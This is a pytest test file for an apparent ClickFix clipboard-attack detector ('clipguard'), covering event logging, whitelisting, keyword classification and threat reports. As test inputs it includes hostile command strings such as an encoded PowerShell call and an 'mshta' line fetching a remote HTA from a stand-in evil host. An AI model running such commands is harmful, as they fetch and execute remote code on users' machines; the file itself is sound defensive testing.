import sqlite3

PAYLOAD = "powershell -enc aGVsbG8="


def _candidate(client, text=PAYLOAD, origin="https://evil.test/verify", **extra):
    body = {"origin": origin, "method": "writeText", "text": text}
    body.update(extra)
    return client.post("/events/candidate", json=body, headers={"User-Agent": "TestBrowser/1.0"})


def test_candidate_event_logs_threat(client):
    resp = _candidate(client)
    assert resp.status_code == 200
    data = resp.json()
    assert data["status"] == "logged"
    assert data["suspicious"] is True
    assert data["matchedRule"] == "MALICIOUS_RE"
    assert data["alert"]["host"] == "evil.test"
    assert data["alert"]["show_modal"] is True

    logs = client.get("/logs").json()
    assert len(logs) == 1
    assert logs[0]["environment"]["userAgent"] == "TestBrowser/1.0"


def test_candidate_event_environment_from_extension(client):
    _candidate(client, environment={"userAgent": "Ext/2", "platform": "MacIntel", "language": "nb-NO"})
    env = client.get("/logs").json()[0]["environment"]
    assert env == {"userAgent": "Ext/2", "platform": "MacIntel", "language": "nb-NO"}


def test_benign_candidate(client):
    data = _candidate(client, text="just some normal text about cooking").json()
    assert data["status"] == "benign"
    assert data["alert"] is None
    assert client.get("/logs").json() == []


def test_whitelist_flow_suppresses_alerts(client):
    assert client.post("/settings/whitelist", json={"host": "trusted.example.com"}).status_code == 201
    assert client.post("/settings/whitelist", json={"host": "trusted.example.com"}).status_code == 409
    assert client.post("/settings/whitelist", json={"host": "localhost"}).status_code == 400

    data = _candidate(client, origin="https://trusted.example.com/login").json()
    assert data["status"] == "whitelisted"
    assert data["suspicious"] is True
    assert client.get("/logs").json() == []

    assert client.delete("/settings/whitelist/trusted.example.com").json() == []
    assert client.delete("/settings/whitelist/trusted.example.com").status_code == 404


def test_suspicious_clipboard_event(client):
    resp = client.post(
        "/events/suspicious-clipboard",
        json={"payload": "mshta http://evil.test/a.hta", "origin": "evil.test", "pageUrl": "https://evil.test/p"},
    )
    data = resp.json()
    assert data["status"] == "logged"
    assert data["host"] == "evil.test"
    assert client.get("/logs").json()[0]["url"] == "https://evil.test/p"


def test_download_report_event(client):
    resp = client.post(
        "/events/download-report",
        json={
            "data": {"time": "2025-01-01T00:00:00.000Z", "sourceHost": "evil.test", "detectedClipboardPayload": "iex"},
            "filename": "ClickFix-ThreatReport-1.json",
        },
    )
    assert resp.status_code == 200
    assert 'filename="ClickFix-ThreatReport-1.json"' in resp.headers["content-disposition"]
    report = resp.json()
    assert report["reportType"] == "ClickFix Threat Report"
    assert report["timestamp"] == "2025-01-01T00:00:00.000Z"
    assert resp.text.startswith("{\n  ")


def test_download_report_default_filename(client):
    resp = client.post("/events/download-report", json={"data": {"time": "2025-01-01T00:00:00.000Z"}})
    assert "ClickFix-ThreatReport-2025-01-01T00-00-00.000Z.json" in resp.headers["content-disposition"]


def test_download_report_filename_is_sanitized(client):
    resp = client.post(
        "/events/download-report",
        json={"data": {"time": "2025-01-01T00:00:00.000Z"}, "filename": 'evil"; x=1 ünïcode.json'},
    )
    assert resp.status_code == 200
    assert resp.headers["content-disposition"] == 'attachment; filename="evil-x-1-n-code.json"'


def test_whitelist_delete_ignores_case(client):
    client.post("/settings/whitelist", json={"host": "Example.com"})
    assert client.delete("/settings/whitelist/Example.com").json() == []


def test_log_reports(client):
    _candidate(client)
    json_resp = client.get("/logs/0/report")
    assert json_resp.json()["detectedClipboardPayload"] == PAYLOAD
    pdf_resp = client.get("/logs/0/report.pdf")
    assert pdf_resp.headers["content-type"] == "application/pdf"
    assert pdf_resp.content.startswith(b"%PDF")
    assert client.get("/logs/3/report").status_code == 404


def test_clear_logs(client):
    _candidate(client)
    assert client.delete("/logs").json() == {"logs": []}
    assert client.get("/logs").json() == []


def test_keywords_roundtrip_and_classify(client):
    assert client.put("/settings/keywords", json={"text": "Win+R\n\nrun dialog\n"}).json() == ["Win+R", "run dialog"]
    data = client.post("/classify", json={"text": "Press WIN+R"}).json()
    assert data["suspicious"] is True
    assert data["matchedRule"] == "USER_KEYWORD"
    assert data["firedRules"] == ["USER_KEYWORD"]
    assert client.delete("/settings/keywords").json() == []
    assert client.get("/settings/keywords").json() == []


def test_toggles(client):
    resp = client.put("/settings/alerts", json={"onScreenAlerts": False, "hardcodedKeywords": False})
    assert resp.json() == {
        "whitelist": [],
        "keywords": [],
        "onScreenAlerts": False,
        "hardcodedKeywords": False,
    }
    assert _candidate(client).json()["alert"]["show_modal"] is False
    assert client.post("/classify", json={"text": "please complete verification"}).json()["suspicious"] is False


def test_store_failure_maps_to_503(client, monkeypatch):
    from clipguard import main

    def broken():
        raise sqlite3.OperationalError("disk I/O error")

    monkeypatch.setattr(main.store, "list_logs", broken)
    assert client.get("/logs").status_code == 503


def test_api_key_required_when_configured(client, monkeypatch):
    from clipguard import main

    monkeypatch.setattr(main.config, "API_KEY", "secret")
    assert client.get("/settings").status_code == 401
    assert client.get("/settings", headers={"Authorization": "Bearer secret"}).status_code == 200
